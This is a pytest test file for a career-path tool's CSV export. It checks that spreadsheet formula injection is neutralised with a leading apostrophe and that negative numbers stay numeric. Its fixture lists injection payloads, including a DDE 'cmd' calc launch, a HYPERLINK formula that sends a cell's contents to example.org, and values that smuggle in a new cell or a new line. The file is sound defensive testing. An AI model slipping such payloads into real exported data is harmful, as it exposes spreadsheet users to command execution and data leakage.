"""Row 31: no text of the data runs as a formula in a spreadsheet; negative numbers are numbers."""

import csv

import pytest

from tests.faults.samples import SCREENS, changed, quoted, screen
from tests.kit import Careerpath, Filled, Write

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "unseen": "\u200b\u202e=1+1",
    "spaces": "\u00a0 =1+1",
    "full width": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(A1)",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.org/?"&A1,"more")',
    "new cell": 'a",=1+1,"',
    "new cell at a semicolon": "a;=1+1",
    "new cell in quotes": 'a; "=1+1',
    "new line": 'a"\r\n=1+1',
}
_STARTS = set("=+-@\t\r\n＝＋－＠")


@pytest.fixture(params=FORMULAS)
def files(request: pytest.FixtureRequest, filled_with: Filled) -> tuple[str, str]:
    """Paths of a profile and of a catalogue with a formula in every place."""
    return filled_with(FORMULAS[request.param])


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(text.splitlines(), strict=True) for cell in row]


@pytest.mark.parametrize("name", SCREENS)
def test_no_cell_is_a_formula(name: str, careerpath: Careerpath, files: tuple[str, str]) -> None:
    run = careerpath(*screen(name, *files), "-f", "csv")
    assert (run.code, run.err) == (0, "")
    for cell in cells(run.out):
        assert cell[:1] not in _STARTS
    # Where the decimal sign is a comma, Excel parts each line at its semicolons, whatever is
    # quoted, unless a cell begins with a quote.
    for line in run.out.splitlines():
        for cell in next(csv.reader([line], delimiter=";")):
            assert cell.lstrip(' "')[:1] not in _STARTS or not cell.strip(' "')


@pytest.mark.parametrize("text", ["=1+1", "-5", "+49 30 1234", "@home", "＝1"])
def test_an_apostrophe_makes_it_text(text: str, careerpath: Careerpath, write: Write) -> None:
    catalogue = write("c.yaml", changed("title: Seller", f"title: {quoted(text)}"))
    run = careerpath("roles", "-c", catalogue, "-f", "csv")
    assert f'"\'{text}"' in run.out
    assert f'"{text}"' not in run.out


@pytest.mark.parametrize("text", ["R&D = fun", "a - b", "x@example.org", "C++", "5", "'=1"])
def test_what_is_no_formula_stays(text: str, careerpath: Careerpath, write: Write) -> None:
    catalogue = write("c.yaml", changed("title: Seller", f"title: {quoted(text)}"))
    assert f'"{text}"' in careerpath("roles", "-c", catalogue, "-f", "csv").out


def test_negative_numbers_are_untouched(careerpath: Careerpath, catalogue: str) -> None:
    run = careerpath("match", "--current", "analyst", "-c", catalogue, "-f", "csv")
    assert (run.code, run.err) == (0, "")
    rows = csv.DictReader(run.out.splitlines(), quoting=csv.QUOTE_NONNUMERIC)
    steps: dict[str, object] = {row["role_id"]: row["steps"] for row in rows}
    assert steps == {"analyst": 0, "seller": -1}
    assert ",-1," in run.out
